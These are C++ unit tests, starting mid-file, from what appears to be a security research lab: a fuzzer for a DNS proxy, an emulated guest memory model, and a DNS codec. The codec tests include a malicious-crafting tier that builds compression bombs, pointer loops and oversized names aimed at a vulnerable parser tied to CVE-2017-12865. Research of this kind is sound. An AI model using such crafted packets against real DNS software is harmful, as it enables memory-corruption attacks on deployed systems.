  auto repadded = DistillCorpus(padded, config.target);
  ASSERT_TRUE(repadded.ok());
  EXPECT_LE(repadded.value().size(), distilled.value().size() + 1);
}

TEST(Distillation, CampaignDistillFlagShrinksPersistedCorpus) {
  const std::string path = "test_corpus_distill.tmp";
  std::remove(path.c_str());

  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 11;
  config.max_execs = 3000;
  config.minimize = false;
  config.corpus_path = path;
  config.distill = true;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();

  auto persisted = LoadCorpus(path);
  std::remove(path.c_str());
  ASSERT_TRUE(persisted.ok()) << persisted.status().ToString();
  EXPECT_GT(persisted.value().size(), 0u);
  // The file holds the distilled set, never more than the merged corpus.
  EXPECT_LE(persisted.value().size(), report.value().corpus.size());
}

// ----------------------------------------------------------- dictionary ----

TEST(Dictionary, ParsesAflStyleLines) {
  auto tokens = ParseDictionary(
      "# DNS structural tokens\n"
      "\n"
      "ptr_self=\"\\xc0\\x0c\"\n"
      "  label_max=\"\\x3F\"\n"
      "\"bare\\\"quote\"\n");
  ASSERT_TRUE(tokens.ok()) << tokens.status().ToString();
  ASSERT_EQ(tokens.value().size(), 3u);
  EXPECT_EQ(tokens.value()[0], (Bytes{0xC0, 0x0C}));
  EXPECT_EQ(tokens.value()[1], (Bytes{0x3F}));
  EXPECT_EQ(tokens.value()[2], (Bytes{'b', 'a', 'r', 'e', '"', 'q', 'u',
                                      'o', 't', 'e'}));
}

TEST(Dictionary, RejectsMalformedLines) {
  EXPECT_FALSE(ParseDictionary("token=unquoted\n").ok());
  EXPECT_FALSE(ParseDictionary("x=\"unterminated\n").ok());
  EXPECT_FALSE(ParseDictionary("x=\"bad\\q\"\n").ok());
  EXPECT_FALSE(ParseDictionary("x=\"\\x4\"\n").ok());
  EXPECT_FALSE(ParseDictionary("x=\"\"\n").ok());
  EXPECT_FALSE(LoadDictionaryFile("does_not_exist.dict").ok());
}

TEST(Dictionary, EmptyTextIsEmptyDictionary) {
  auto tokens = ParseDictionary("# only comments\n\n");
  ASSERT_TRUE(tokens.ok());
  EXPECT_TRUE(tokens.value().empty());
}

TEST(Dictionary, AbsentDictionaryLeavesMutationStreamUnchanged) {
  // A null or empty dictionary must not consume extra RNG draws — replay
  // compatibility for every pre-dictionary campaign.
  const Bytes seed = DnsSeed();
  const std::vector<Bytes> empty;
  MutationHint no_dict{12, true, 4096, nullptr};
  MutationHint empty_dict{12, true, 4096, &empty};
  Mutator a(util::Rng(99));
  Mutator b(util::Rng(99));
  for (int i = 0; i < 200; ++i) {
    EXPECT_EQ(a.Mutate(seed, no_dict), b.Mutate(seed, empty_dict)) << i;
  }
}

TEST(Dictionary, TokensGetSpliced) {
  const Bytes seed = DnsSeed();
  const std::vector<Bytes> dict = {Bytes{0xDE, 0xAD, 0xBE, 0xEF}};
  MutationHint hint{12, false, 4096, &dict};
  Mutator mutator(util::Rng(5));
  bool seen = false;
  for (int i = 0; i < 400 && !seen; ++i) {
    const Bytes mutant = mutator.Mutate(seed, hint);
    for (std::size_t at = 0; at + 4 <= mutant.size(); ++at) {
      if (mutant[at] == 0xDE && mutant[at + 1] == 0xAD &&
          mutant[at + 2] == 0xBE && mutant[at + 3] == 0xEF) {
        seen = true;
        break;
      }
    }
  }
  EXPECT_TRUE(seen) << "dictionary token never spliced in 400 mutants";
}

TEST(Dictionary, BuiltinDnsDictionaryIsUsable) {
  const auto tokens = DefaultDnsDictionary();
  ASSERT_FALSE(tokens.empty());
  for (const Bytes& t : tokens) EXPECT_FALSE(t.empty());

  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 21;
  config.max_execs = 3000;
  config.minimize = false;
  config.dictionary = tokens;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_GT(report.value().stats.execs, 0u);
}

}  // namespace
}  // namespace connlab::fuzz
