// Unit tests for the guest memory model: segments, permissions, faults.
#include <gtest/gtest.h>

#include <algorithm>

#include "src/mem/address_space.hpp"
#include "src/mem/perms.hpp"

namespace connlab::mem {
namespace {

using util::StatusCode;

AddressSpace MakeSpace() {
  AddressSpace space;
  EXPECT_TRUE(space.Map(".text", 0x1000, 0x1000, kPermRX).ok());
  EXPECT_TRUE(space.Map(".data", 0x3000, 0x1000, kPermRW).ok());
  EXPECT_TRUE(space.Map("stack", 0x8000, 0x2000, kPermRW).ok());
  return space;
}

TEST(Perms, StringForms) {
  EXPECT_EQ(PermString(kPermRWX), "rwx");
  EXPECT_EQ(PermString(kPermRX), "r-x");
  EXPECT_EQ(PermString(kPermRW), "rw-");
  EXPECT_EQ(PermString(Perm::kNone), "---");
}

TEST(Perms, HasChecksBits) {
  EXPECT_TRUE(Has(kPermRX, Perm::kExec));
  EXPECT_FALSE(Has(kPermRW, Perm::kExec));
  EXPECT_TRUE(Has(kPermRW, Perm::kWrite));
}

TEST(Segment, ContainsRange) {
  Segment seg("s", 0x100, 0x10, kPermRW);
  EXPECT_TRUE(seg.Contains(0x100));
  EXPECT_TRUE(seg.Contains(0x10F));
  EXPECT_FALSE(seg.Contains(0x110));
  EXPECT_TRUE(seg.ContainsRange(0x108, 8));
  EXPECT_FALSE(seg.ContainsRange(0x108, 9));
  EXPECT_FALSE(seg.ContainsRange(0xFF, 2));
}

TEST(AddressSpace, MapRejectsOverlap) {
  AddressSpace space = MakeSpace();
  EXPECT_EQ(space.Map("overlap", 0x1800, 0x100, kPermRW).code(),
            StatusCode::kAlreadyExists);
  EXPECT_EQ(space.Map("touching-ok", 0x2000, 0x100, kPermRW).code(),
            StatusCode::kOk);
}

TEST(AddressSpace, MapRejectsEmptyAnd32BitOverflow) {
  AddressSpace space;
  EXPECT_FALSE(space.Map("empty", 0x1000, 0, kPermRW).ok());
  EXPECT_FALSE(space.Map("huge", 0xFFFFF000, 0x2000, kPermRW).ok());
  EXPECT_TRUE(space.Map("edge", 0xFFFFF000, 0x1000, kPermRW).ok());
}

TEST(AddressSpace, ReadWriteRoundTrip) {
  AddressSpace space = MakeSpace();
  ASSERT_TRUE(space.WriteU32(0x3000, 0xdeadbeef).ok());
  EXPECT_EQ(space.ReadU32(0x3000).value(), 0xdeadbeefu);
  ASSERT_TRUE(space.WriteU8(0x3004, 0x7F).ok());
  EXPECT_EQ(space.ReadU8(0x3004).value(), 0x7F);
}

TEST(AddressSpace, LittleEndianLayout) {
  AddressSpace space = MakeSpace();
  ASSERT_TRUE(space.WriteU32(0x3000, 0x11223344).ok());
  EXPECT_EQ(space.ReadU8(0x3000).value(), 0x44);
  EXPECT_EQ(space.ReadU8(0x3003).value(), 0x11);
}

TEST(AddressSpace, WriteToReadOnlyFails) {
  AddressSpace space = MakeSpace();
  auto status = space.WriteU32(0x1000, 1);
  EXPECT_EQ(status.code(), StatusCode::kPermissionDenied);
  ASSERT_TRUE(space.last_fault().has_value());
  EXPECT_EQ(space.last_fault()->kind, AccessKind::kWrite);
  EXPECT_EQ(space.last_fault()->addr, 0x1000u);
}

TEST(AddressSpace, UnmappedAccessFails) {
  AddressSpace space = MakeSpace();
  EXPECT_EQ(space.ReadU32(0x7000).status().code(), StatusCode::kPermissionDenied);
  ASSERT_TRUE(space.last_fault().has_value());
  EXPECT_NE(space.last_fault()->detail.find("unmapped"), std::string::npos);
}

TEST(AddressSpace, RangeMayNotStraddleSegments) {
  AddressSpace space = MakeSpace();
  // 0x3FFE..0x4002 runs off the end of .data.
  EXPECT_FALSE(space.WriteU32(0x3FFE, 1).ok());
  EXPECT_FALSE(space.ReadU32(0x3FFE).ok());
}

TEST(AddressSpace, FetchEnforcesExec) {
  AddressSpace space = MakeSpace();
  EXPECT_TRUE(space.Fetch(0x1000, 4).ok());
  auto r = space.Fetch(0x8000, 4);  // stack is rw- : W^X blocks this
  EXPECT_EQ(r.status().code(), StatusCode::kPermissionDenied);
  ASSERT_TRUE(space.last_fault().has_value());
  EXPECT_EQ(space.last_fault()->kind, AccessKind::kFetch);
}

TEST(AddressSpace, FetchFromRwxStackAllowed) {
  AddressSpace space = MakeSpace();
  ASSERT_TRUE(space.Protect("stack", kPermRWX).ok());
  EXPECT_TRUE(space.Fetch(0x8000, 4).ok());
}

TEST(AddressSpace, ProtectUnknownSegment) {
  AddressSpace space = MakeSpace();
  EXPECT_EQ(space.Protect("nope", kPermRW).code(), StatusCode::kNotFound);
}

TEST(AddressSpace, ReadCString) {
  AddressSpace space = MakeSpace();
  const util::Bytes s = util::BytesOf("/bin/sh");
  ASSERT_TRUE(space.WriteBytes(0x3100, s).ok());
  ASSERT_TRUE(space.WriteU8(0x3107, 0).ok());
  EXPECT_EQ(space.ReadCString(0x3100).value(), "/bin/sh");
  // Unterminated within max_len:
  EXPECT_FALSE(space.ReadCString(0x3100, 3).ok());
}

TEST(AddressSpace, DebugAccessIgnoresPerms) {
  AddressSpace space = MakeSpace();
  // .text is not writable, but the loader/debugger may write it.
  EXPECT_TRUE(space.DebugWrite(0x1000, util::Bytes{1, 2, 3}).ok());
  EXPECT_EQ(space.DebugRead(0x1000, 3).value(), (util::Bytes{1, 2, 3}));
  // But never unmapped memory.
  EXPECT_FALSE(space.DebugWrite(0x6000, util::Bytes{1}).ok());
  EXPECT_FALSE(space.DebugRead(0x6000, 1).ok());
}

TEST(AddressSpace, FindSegment) {
  AddressSpace space = MakeSpace();
  ASSERT_NE(space.FindSegment(0x1234), nullptr);
  EXPECT_EQ(space.FindSegment(0x1234)->name(), ".text");
  EXPECT_EQ(space.FindSegment(0x0), nullptr);
  EXPECT_EQ(space.FindSegment(0x2000), nullptr);
  ASSERT_NE(space.FindSegmentByName("stack"), nullptr);
  EXPECT_EQ(space.FindSegmentByName("stack")->base(), 0x8000u);
  EXPECT_EQ(space.FindSegmentByName("nope"), nullptr);
}

TEST(AddressSpace, MapsStringListsSegmentsInOrder) {
  AddressSpace space = MakeSpace();
  const std::string maps = space.MapsString();
  const auto text_pos = maps.find(".text");
  const auto data_pos = maps.find(".data");
  const auto stack_pos = maps.find("stack");
  EXPECT_NE(text_pos, std::string::npos);
  EXPECT_LT(text_pos, data_pos);
  EXPECT_LT(data_pos, stack_pos);
  EXPECT_NE(maps.find("r-x"), std::string::npos);
}

TEST(AddressSpace, WriteBytesBulk) {
  AddressSpace space = MakeSpace();
  util::Bytes big(0x800, 0xAB);
  ASSERT_TRUE(space.WriteBytes(0x3000, big).ok());
  auto back = space.ReadBytes(0x3000, 0x800);
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back.value(), big);
}

TEST(AddressSpace, ClearFault) {
  AddressSpace space = MakeSpace();
  (void)space.ReadU8(0x0);
  ASSERT_TRUE(space.last_fault().has_value());
  space.ClearFault();
  EXPECT_FALSE(space.last_fault().has_value());
}

TEST(AddressSpace, FetchSegmentRequiresExecPermission) {
  AddressSpace space = MakeSpace();
  auto text = space.FetchSegment(0x1000, 4);
  ASSERT_TRUE(text.ok());
  EXPECT_EQ(text.value()->name(), ".text");

  auto data = space.FetchSegment(0x3000, 4);
  EXPECT_FALSE(data.ok());
  ASSERT_TRUE(space.last_fault().has_value());
  EXPECT_EQ(space.last_fault()->kind, AccessKind::kFetch);

  EXPECT_FALSE(space.FetchSegment(0x0, 4).ok());       // unmapped
  EXPECT_FALSE(space.FetchSegment(0x1FFE, 4).ok());    // runs off the end
}

TEST(AddressSpace, FetchSegmentWindowMatchesFetch) {
  AddressSpace space = MakeSpace();
  const Segment* seg = space.FindSegmentByName(".text");
  ASSERT_NE(seg, nullptr);
  util::Bytes code{0xAA, 0xBB, 0xCC, 0xDD};
  ASSERT_TRUE(space.DebugWrite(0x1000, code).ok());
  auto got = space.FetchSegment(0x1000, 4);
  ASSERT_TRUE(got.ok());
  const util::ByteSpan window = got.value()->SpanAt(0x1000, 4);
  const util::Bytes copied = space.Fetch(0x1000, 4).value();
  EXPECT_TRUE(std::equal(window.begin(), window.end(), copied.begin()));
}

TEST(Segment, GenerationBumpsOnEveryMutation) {
  AddressSpace space = MakeSpace();
  const Segment* data = space.FindSegmentByName(".data");
  ASSERT_NE(data, nullptr);
  std::uint64_t gen = data->generation();

  ASSERT_TRUE(space.WriteU8(0x3000, 1).ok());
  EXPECT_GT(data->generation(), gen);
  gen = data->generation();

  ASSERT_TRUE(space.WriteU32(0x3004, 42).ok());
  EXPECT_GT(data->generation(), gen);
  gen = data->generation();

  ASSERT_TRUE(space.WriteBytes(0x3008, util::Bytes{1, 2, 3}).ok());
  EXPECT_GT(data->generation(), gen);
  gen = data->generation();

  ASSERT_TRUE(space.DebugWrite(0x3000, util::Bytes{9}).ok());
  EXPECT_GT(data->generation(), gen);
  gen = data->generation();

  // mprotect counts as a mutation too: X may have been granted or revoked.
  ASSERT_TRUE(space.Protect(".data", kPermRWX).ok());
  EXPECT_GT(data->generation(), gen);
  gen = data->generation();

  // Reads leave the generation alone.
  (void)space.ReadU32(0x3000);
  (void)space.ReadBytes(0x3000, 8);
  EXPECT_EQ(data->generation(), gen);

  // Writes to another segment don't disturb this one.
  ASSERT_TRUE(space.WriteU8(0x8000, 7).ok());
  EXPECT_EQ(data->generation(), gen);
}

TEST(Segment, DirtyTrackingMarksTouchedPages) {
  Segment seg("scratch", 0x4000, 0x1000, kPermRW);  // 16 pages of 256 bytes
  EXPECT_EQ(seg.dirty_baseline(), 0u);  // no snapshot baseline yet

  seg.ResetDirty(7);
  EXPECT_EQ(seg.dirty_baseline(), 7u);
  EXPECT_FALSE(seg.HasDirtyPages());
  EXPECT_EQ(seg.CountDirtyPages(), 0u);

  seg.Set(0x4010, 0xAA);  // page 0
  EXPECT_TRUE(seg.HasDirtyPages());
  EXPECT_EQ(seg.CountDirtyPages(), 1u);

  // A bulk write straddling the page-0/page-1 boundary dirties both, but
  // page 0 was already dirty: only one new bit.
  seg.SetBytes(0x40F0, util::Bytes(32, 0xBB));
  EXPECT_EQ(seg.CountDirtyPages(), 2u);

  seg.Set(0x4300, 0xCC);  // page 3
  EXPECT_EQ(seg.CountDirtyPages(), 3u);

  // Reads don't dirty anything.
  (void)seg.At(0x4FFF);
  (void)seg.SpanAt(0x4800, 16);
  EXPECT_EQ(seg.CountDirtyPages(), 3u);

  seg.MarkAllDirty();
  EXPECT_EQ(seg.CountDirtyPages(), 16u);
}

TEST(Segment, RestoreDirtyPagesCopiesOnlyTouchedAndBumpsOnce) {
  Segment seg("scratch", 0x4000, 0x400, kPermRW);  // 4 pages
  seg.SetBytes(0x4000, util::Bytes(0x400, 0x11));
  seg.ResetDirty(1);
  const util::Bytes reference = seg.data();

  seg.Set(0x4100, 0xEE);  // page 1
  seg.Set(0x43FF, 0xEF);  // page 3
  EXPECT_EQ(seg.CountDirtyPages(), 2u);
  const std::uint64_t gen = seg.generation();

  EXPECT_EQ(seg.RestoreDirtyPagesFrom(
                util::ByteSpan(reference.data(), reference.size())),
            2u);
  EXPECT_EQ(seg.data(), reference);
  // One bump total — enough to kill stale decodes, cheap enough to keep the
  // restore O(touched pages).
  EXPECT_EQ(seg.generation(), gen + 1);
  EXPECT_FALSE(seg.HasDirtyPages());
  // Baseline survives the restore, so the next rewind to the same snapshot
  // may trust the bitmap again.
  EXPECT_EQ(seg.dirty_baseline(), 1u);

  // Nothing dirty => nothing copied, generation untouched, caches stay warm.
  EXPECT_EQ(seg.RestoreDirtyPagesFrom(
                util::ByteSpan(reference.data(), reference.size())),
            0u);
  EXPECT_EQ(seg.generation(), gen + 1);
}

TEST(Segment, MutableDataPessimisticallyDirtiesEverything) {
  Segment seg("scratch", 0x4000, 0x1000, kPermRW);
  seg.ResetDirty(3);
  EXPECT_FALSE(seg.HasDirtyPages());
  (void)seg.mutable_data();
  EXPECT_EQ(seg.CountDirtyPages(), 16u);
}

}  // namespace
}  // namespace connlab::mem
