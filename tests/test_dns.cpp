// DNS codec tests: names (incl. compression), records, messages, and the
// malicious-crafting tier (PayloadImage label cutter).
#include <gtest/gtest.h>

#include "src/dns/craft.hpp"
#include "src/dns/message.hpp"
#include "src/dns/name.hpp"
#include "src/dns/record.hpp"

namespace connlab::dns {
namespace {

using util::Bytes;
using util::BytesOf;
using util::ByteWriter;

TEST(Name, ParseDottedBasics) {
  auto labels = ParseDotted("www.example.com");
  ASSERT_TRUE(labels.ok());
  ASSERT_EQ(labels.value().size(), 3u);
  EXPECT_EQ(labels.value()[0], BytesOf("www"));
  EXPECT_EQ(labels.value()[2], BytesOf("com"));
  EXPECT_TRUE(ParseDotted("").value().empty());
  EXPECT_TRUE(ParseDotted(".").value().empty());
  EXPECT_EQ(ParseDotted("trailing.dot.").value().size(), 2u);
}

TEST(Name, ParseDottedRejectsMalformed) {
  EXPECT_FALSE(ParseDotted("a..b").ok());
  EXPECT_FALSE(ParseDotted(std::string(64, 'x') + ".com").ok());
  // 255-byte total limit.
  std::string big;
  for (int i = 0; i < 50; ++i) big += "abcde.";
  big += "com";
  EXPECT_FALSE(ParseDotted(big).ok());
}

TEST(Name, EncodeDecodeRoundTrip) {
  ByteWriter w;
  ASSERT_TRUE(EncodeName(w, "mail.example.org").ok());
  auto decoded = DecodeName(w.bytes(), 0);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().dotted, "mail.example.org");
  EXPECT_EQ(decoded.value().wire_len, w.bytes().size());
}

TEST(Name, DecodeFollowsCompressionPointer) {
  // Packet: [name "example.com" at 0][pointer-to-0 at 13 prefixed by "www"]
  ByteWriter w;
  ASSERT_TRUE(EncodeName(w, "example.com").ok());  // 13 bytes at offset 0
  const std::size_t second = w.size();
  w.WriteU8(3);
  w.WriteString("www");
  w.WriteU8(0xC0);
  w.WriteU8(0x00);
  auto decoded = DecodeName(w.bytes(), second);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().dotted, "www.example.com");
  EXPECT_EQ(decoded.value().wire_len, 6u);  // 1+3+2
}

TEST(Name, DecodeRejectsPointerLoop) {
  Bytes wire{0xC0, 0x00};  // points at itself
  EXPECT_FALSE(DecodeName(wire, 0).ok());
}

TEST(Name, DecodeRejectsTruncation) {
  EXPECT_FALSE(DecodeName(Bytes{5, 'a', 'b'}, 0).ok());
  EXPECT_FALSE(DecodeName(Bytes{0xC0}, 0).ok());
  EXPECT_FALSE(DecodeName(Bytes{}, 0).ok());
}

TEST(Name, DecodeEnforces255Limit) {
  // Five 62-byte labels > 255 decoded length.
  ByteWriter w;
  for (int i = 0; i < 5; ++i) {
    w.WriteU8(62);
    for (int j = 0; j < 62; ++j) w.WriteU8('a');
  }
  w.WriteU8(0);
  EXPECT_FALSE(DecodeName(w.bytes(), 0).ok());
}

TEST(Name, EncodeLabelsRawTierAllowsArbitraryBytes) {
  LabelSeq labels{{0x00, 0xFF, 0x3F}, {0x90, 0x90}};
  ByteWriter w;
  ASSERT_TRUE(EncodeLabels(w, labels).ok());
  EXPECT_EQ(w.bytes(), (Bytes{3, 0x00, 0xFF, 0x3F, 2, 0x90, 0x90, 0}));
  // But still cannot encode >63 (length byte has 6 bits).
  LabelSeq toolong{Bytes(64, 'x')};
  ByteWriter w2;
  EXPECT_FALSE(EncodeLabels(w2, toolong).ok());
}

TEST(Name, ToDottedEscapesNonPrintable) {
  LabelSeq labels{{0x01, 'a'}, {'b'}};
  EXPECT_EQ(ToDotted(labels), "\\001a.b");
}

// ---------------------------------------------------- parser edge cases ----
// The boundaries where the hardened decoder (DecodeName) and the vulnerable
// guest get_name diverge: the strict parser refuses exactly the shapes the
// fuzzer leans on (pointer loops, pointer chains, flag-bit label lengths,
// truncation), while the expansion algorithm walks into them.

TEST(NameEdge, PointerToPointerChainResolves) {
  // name at 0, pointer at A -> 0, pointer at B -> A: two hops, legal.
  ByteWriter w;
  ASSERT_TRUE(EncodeName(w, "example.com").ok());
  const std::size_t first_ptr = w.size();
  w.WriteU8(0xC0);
  w.WriteU8(0x00);
  const std::size_t second_ptr = w.size();
  w.WriteU8(0xC0);
  w.WriteU8(static_cast<std::uint8_t>(first_ptr));
  auto decoded = DecodeName(w.bytes(), second_ptr);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().dotted, "example.com");
  EXPECT_EQ(decoded.value().wire_len, 2u);
}

TEST(NameEdge, PointerChainBudgetIsEnforced) {
  // ptr[i] -> ptr[i-1] -> ... -> ptr[0] -> real name: hops = chain length.
  ByteWriter w;
  ASSERT_TRUE(EncodeName(w, "deep.example").ok());
  std::vector<std::size_t> ptr_at;
  std::size_t prev = 0;
  for (int i = 0; i < 6; ++i) {
    ptr_at.push_back(w.size());
    w.WriteU8(0xC0);
    w.WriteU8(static_cast<std::uint8_t>(prev));
    prev = ptr_at.back();
  }
  // 6 pointer hops: fine with budget 6, rejected with budget 5.
  EXPECT_TRUE(DecodeName(w.bytes(), ptr_at.back(), /*max_hops=*/6).ok());
  EXPECT_FALSE(DecodeName(w.bytes(), ptr_at.back(), /*max_hops=*/5).ok());
}

TEST(NameEdge, TwoPointerCycleRejected) {
  // A -> B and B -> A: never terminates, only the hop budget saves us.
  Bytes wire{0xC0, 0x02, 0xC0, 0x00};
  EXPECT_FALSE(DecodeName(wire, 0).ok());
  EXPECT_FALSE(DecodeName(wire, 2).ok());
}

TEST(NameEdge, SelfPointerAfterLabelsRejected) {
  // The compression-bomb shape: labels then a pointer back to their start.
  // The strict parser sees >255 bytes after a few hops and refuses; the
  // vulnerable get_name re-expands the run once per hop (test_connman).
  ByteWriter w;
  w.WriteU8(4);
  w.WriteString("bomb");
  w.WriteU8(0xC0);
  w.WriteU8(0x00);
  EXPECT_FALSE(DecodeName(w.bytes(), 0).ok());
}

TEST(NameEdge, LabelLengthBoundary) {
  // 63 (0x3F) is the largest encodable label; 64 and 128 set the reserved
  // flag bits and must not be treated as plain lengths.
  ByteWriter ok;
  ok.WriteU8(63);
  for (int i = 0; i < 63; ++i) ok.WriteU8('a');
  ok.WriteU8(0);
  auto decoded = DecodeName(ok.bytes(), 0);
  ASSERT_TRUE(decoded.ok());
  ASSERT_EQ(decoded.value().labels.size(), 1u);
  EXPECT_EQ(decoded.value().labels[0].size(), 63u);

  for (const std::uint8_t bad_len : {0x40, 0x80}) {
    Bytes wire(70, 'a');
    wire[0] = bad_len;
    EXPECT_FALSE(DecodeName(wire, 0).ok()) << unsigned(bad_len);
  }
}

TEST(NameEdge, PointerIntoTruncatedRegionRejected) {
  // Pointer target exists but the name there runs off the packet.
  Bytes wire{0xC0, 0x02, 5, 'a', 'b'};
  EXPECT_FALSE(DecodeName(wire, 0).ok());
}

TEST(NameEdge, OffsetAtOrPastEndRejected) {
  ByteWriter w;
  ASSERT_TRUE(EncodeName(w, "x.y").ok());
  EXPECT_FALSE(DecodeName(w.bytes(), w.size()).ok());
  EXPECT_FALSE(DecodeName(w.bytes(), w.size() + 10).ok());
}

TEST(MessageEdge, TruncatedHeaderLengths) {
  // Every length short of the 12-byte header must be rejected cleanly.
  for (std::size_t len = 0; len < kHeaderSize; ++len) {
    EXPECT_FALSE(Decode(Bytes(len, 0)).ok()) << len;
  }
}

TEST(MessageEdge, TruncatedMidRecordRejected) {
  Message msg = Message::Query(3, "trunc.example");
  msg.header.qr = true;
  msg.answers.push_back(MakeA("trunc.example", "10.1.2.3", 99));
  auto wire = Encode(msg);
  ASSERT_TRUE(wire.ok());
  // Chop the packet anywhere inside the answer section: always malformed,
  // never a crash or an accept.
  const std::size_t full = wire.value().size();
  for (std::size_t keep = kHeaderSize + 1; keep < full; ++keep) {
    Bytes cut(wire.value().begin(),
              wire.value().begin() + static_cast<std::ptrdiff_t>(keep));
    EXPECT_FALSE(Decode(cut).ok()) << keep;
  }
}

TEST(NameEdge, StrictDecoderRefusesWhatExpansionAccepts) {
  // A raw 300-byte name: encodable by the raw tier, expandable by the
  // vulnerable algorithm (301 bytes incl. terminator), rejected by the
  // hardened parser — the exact disagreement CVE-2017-12865 lives in.
  auto labels = JunkLabels(300);
  ASSERT_TRUE(labels.ok());
  ByteWriter w;
  ASSERT_TRUE(EncodeLabels(w, labels.value()).ok());
  EXPECT_EQ(ExpandLabels(labels.value()).size(), 301u);
  EXPECT_FALSE(DecodeName(w.bytes(), 0).ok());
}

TEST(Record, IPv4RoundTrip) {
  auto bytes = ParseIPv4("192.168.1.42");
  ASSERT_TRUE(bytes.ok());
  EXPECT_EQ(bytes.value(), (Bytes{192, 168, 1, 42}));
  EXPECT_EQ(FormatIPv4(bytes.value()).value(), "192.168.1.42");
  EXPECT_FALSE(ParseIPv4("300.1.1.1").ok());
  EXPECT_FALSE(ParseIPv4("1.2.3").ok());
  EXPECT_FALSE(ParseIPv4("1.2.3.4.5").ok());
  EXPECT_FALSE(FormatIPv4(Bytes{1, 2}).ok());
}

TEST(Record, Makers) {
  auto a = MakeA("h.example", "10.0.0.1");
  EXPECT_EQ(a.type, Type::kA);
  EXPECT_EQ(a.rdata.size(), 4u);
  auto aaaa = MakeAAAA("h.example");
  EXPECT_EQ(aaaa.type, Type::kAAAA);
  EXPECT_EQ(aaaa.rdata.size(), 16u);
  auto txt = MakeTXT("h.example", "hi");
  EXPECT_EQ(txt.rdata, (Bytes{2, 'h', 'i'}));
  EXPECT_EQ(TypeName(Type::kAAAA), "AAAA");
}

TEST(Record, TypeNameCoversEveryRrType) {
  EXPECT_EQ(TypeName(Type::kA), "A");
  EXPECT_EQ(TypeName(Type::kNS), "NS");
  EXPECT_EQ(TypeName(Type::kCNAME), "CNAME");
  EXPECT_EQ(TypeName(Type::kSOA), "SOA");
  EXPECT_EQ(TypeName(Type::kPTR), "PTR");
  EXPECT_EQ(TypeName(Type::kMX), "MX");
  EXPECT_EQ(TypeName(Type::kTXT), "TXT");
  EXPECT_EQ(TypeName(Type::kAny), "ANY");
  EXPECT_EQ(TypeName(static_cast<Type>(99)), "TYPE99");
}

TEST(Record, NameRdataRoundTrip) {
  for (Type type : {Type::kNS, Type::kCNAME, Type::kPTR}) {
    ResourceRecord rr;
    switch (type) {
      case Type::kNS: rr = MakeNS("zone.example", "ns1.zone.example"); break;
      case Type::kCNAME:
        rr = MakeCNAME("www.example", "host.example");
        break;
      default: rr = MakePTR("9.0.0.10.in-addr.arpa", "printer.lan"); break;
    }
    EXPECT_EQ(rr.type, type);
    auto target = DecodeNameRdata(rr);
    ASSERT_TRUE(target.ok()) << TypeName(type);
    EXPECT_EQ(target.value(),
              type == Type::kNS     ? "ns1.zone.example"
              : type == Type::kCNAME ? "host.example"
                                     : "printer.lan");
  }
  // Wrong type and truncated rdata both refuse cleanly.
  EXPECT_FALSE(DecodeNameRdata(MakeA("h.example", "1.2.3.4")).ok());
  ResourceRecord cut = MakeCNAME("www.example", "host.example");
  cut.rdata.pop_back();
  EXPECT_FALSE(DecodeNameRdata(cut).ok());
}

TEST(Record, MxRoundTrip) {
  ResourceRecord rr = MakeMX("example", 10, "mail.example");
  EXPECT_EQ(rr.type, Type::kMX);
  auto mx = DecodeMX(rr);
  ASSERT_TRUE(mx.ok());
  EXPECT_EQ(mx.value().preference, 10);
  EXPECT_EQ(mx.value().exchange, "mail.example");
  EXPECT_FALSE(DecodeMX(MakeTXT("example", "x")).ok());
  rr.rdata.push_back(0x41);  // trailing junk after the exchange name
  EXPECT_FALSE(DecodeMX(rr).ok());
}

TEST(Record, SoaRoundTrip) {
  SoaFields soa;
  soa.mname = "ns1.example";
  soa.rname = "hostmaster.example";
  soa.serial = 2024120501;
  soa.refresh = 7200;
  soa.retry = 900;
  soa.expire = 1209600;
  soa.minimum = 120;
  ResourceRecord rr = MakeSOA("example", soa);
  EXPECT_EQ(rr.type, Type::kSOA);
  auto decoded = DecodeSOA(rr);
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded.value().mname, "ns1.example");
  EXPECT_EQ(decoded.value().rname, "hostmaster.example");
  EXPECT_EQ(decoded.value().serial, 2024120501u);
  EXPECT_EQ(decoded.value().refresh, 7200u);
  EXPECT_EQ(decoded.value().retry, 900u);
  EXPECT_EQ(decoded.value().expire, 1209600u);
  EXPECT_EQ(decoded.value().minimum, 120u);
  rr.rdata.resize(rr.rdata.size() - 2);  // truncate the minimum field
  EXPECT_FALSE(DecodeSOA(rr).ok());
}

TEST(Record, TxtRoundTripIncludingMultiChunk) {
  EXPECT_EQ(DecodeTXT(MakeTXT("h.example", "hello")).value(), "hello");
  // Hand-built two-chunk TXT: decoders must concatenate chunks.
  ResourceRecord rr = MakeTXT("h.example", "ab");
  rr.rdata.push_back(2);
  rr.rdata.push_back('c');
  rr.rdata.push_back('d');
  EXPECT_EQ(DecodeTXT(rr).value(), "abcd");
  rr.rdata.back() = 'x';
  rr.rdata[3] = 9;  // chunk length runs past the rdata
  EXPECT_FALSE(DecodeTXT(rr).ok());
}

TEST(Record, TypedRecordsSurviveMessageEncodeDecode) {
  Message query = Message::Query(0x5151, "zone.example", Type::kSOA);
  Message response = Message::ResponseFor(query);
  SoaFields soa;
  soa.mname = "ns1.zone.example";
  soa.rname = "admin.zone.example";
  response.answers.push_back(MakeSOA("zone.example", soa));
  response.answers.push_back(MakeMX("zone.example", 5, "mx.zone.example"));
  response.answers.push_back(MakeCNAME("www.zone.example", "zone.example"));
  response.authorities.push_back(MakeNS("zone.example", "ns2.zone.example"));
  response.additionals.push_back(
      MakePTR("8.0.0.10.in-addr.arpa", "cam.zone.example"));

  auto wire = Encode(response);
  ASSERT_TRUE(wire.ok());
  auto decoded = Decode(wire.value());
  ASSERT_TRUE(decoded.ok());
  const Message& m = decoded.value();
  ASSERT_EQ(m.answers.size(), 3u);
  ASSERT_EQ(m.authorities.size(), 1u);
  ASSERT_EQ(m.additionals.size(), 1u);
  EXPECT_EQ(DecodeSOA(m.answers[0]).value().mname, "ns1.zone.example");
